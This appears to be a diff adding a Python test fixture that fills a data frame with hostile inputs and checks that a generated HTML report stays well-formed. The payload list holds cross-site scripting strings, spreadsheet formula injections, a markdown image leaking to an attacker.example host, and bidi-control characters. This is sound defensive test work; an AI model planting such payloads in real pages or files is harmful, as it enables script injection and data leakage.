@@ -1,0 +1,95 @@
+"""Hostile payloads (RELIABILITY.md 7.3) and an HTML well-formedness check for the report tests."""
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import numpy as np
+import pandas as pd
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</script><img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<form action="javascript:alert(1)"><input type=submit></form>',
+    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+    "<style>body{display:none}</style>",
+    "[x](javascript:alert(1)) ![](http://attacker.example/?leak)",
+    "{{7*7}} {% raw %}",
+    '=HYPERLINK("http://x")', "+1", "-1", "@SUM(1)",
+    "abc\u202eevil\u200bzw\u2066iso",
+    "<img src=x onerror=\"window.__pwned=1\">",
+    "<!-- comment --> </script> <![CDATA[x]]>",
+    "\t=1+2", "\r=1+2",
+]
+
+
+def hostile_frame(n_per_model: int = 40, big: bool = False, surrogate: bool = False) -> pd.DataFrame:
+    """Three models (two with hostile names), every text field cycling through the payloads."""
+    rng = np.random.default_rng(0)
+    rows = []
+    models = ["<img src=x onerror=alert(1)>", "=HYPERLINK(\"http://x\")", "safe-model"]
+    cats = ["billing", "<b>bold</b>", "shipping"]
+    for m in models:
+        for i in range(n_per_model):
+            p = PAYLOADS[i % len(PAYLOADS)]
+            rows.append({"model": m, "item_id": f"i{i}", "task": "qa", "category": cats[i % 3],
+                         "input": p, "output": p, "reference": PAYLOADS[(i + 3) % len(PAYLOADS)],
+                         "request_id": f"{m}-{i}", "judge_relevance": float(rng.integers(1, 6)),
+                         "latency_ms": float(rng.lognormal(6, .4)), "cost_usd": float(rng.uniform(0.001, 0.01))})
+    if big:
+        rows[0]["output"] = "A" * 20_000_000 + "<script>window.__pwned=1</script>"
+        rows[0]["judge_relevance"] = 1.0   # among the worst items, so the report shows it
+    if surrogate:
+        rows[1]["output"] = "lone \ud800 surrogate"
+    df = pd.DataFrame({k: pd.Series([r[k] for r in rows], dtype=object if isinstance(rows[0][k], str) else None)
+                       for k in rows[0]})
+    return df
+
+
+VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
+
+
+class _Checker(HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.stack: list[str] = []
+        self.problems: list[str] = []
+        self.ids: set[str] = set()
+        self.doctype = False
+
+    def handle_decl(self, decl):
+        self.doctype = self.doctype or decl.lower() == "doctype html"
+
+    def handle_starttag(self, tag, attrs):
+        for k, v in attrs:
+            if k == "id":
+                if v in self.ids:
+                    self.problems.append(f"duplicate id {v!r}")
+                self.ids.add(v)
+        if tag not in VOID:
+            self.stack.append(tag)
+
+    def handle_endtag(self, tag):
+        if tag in VOID:
+            return
+        if not self.stack or self.stack[-1] != tag:
+            self.problems.append(f"unexpected </{tag}> (open: {self.stack[-3:]}) at {self.getpos()}")
+            if tag in self.stack:
+                while self.stack and self.stack.pop() != tag:
+                    pass
+        else:
+            self.stack.pop()
+
+
+def html_problems(text: str) -> list[str]:
+    """Well-formedness problems: doctype, unbalanced or misnested tags, duplicate ids."""
+    checker = _Checker()
+    checker.feed(text)
+    checker.close()
+    problems = list(checker.problems)
+    if not checker.doctype:
+        problems.append("no <!DOCTYPE html>")
+    if checker.stack:
+        problems.append(f"unclosed tags: {checker.stack}")
+    return problems
